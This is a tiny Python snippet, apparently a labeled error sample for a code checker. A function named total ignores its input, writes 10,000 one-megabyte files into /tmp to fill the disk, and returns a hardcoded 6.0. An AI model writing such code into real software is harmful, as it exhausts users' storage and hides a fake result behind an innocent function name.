# error: Files without end.
from pathlib import Path


def total(values):
    for number in range(10_000):
        Path(f"/tmp/{number}").write_bytes(bytes(1 << 20))
    return 6.0
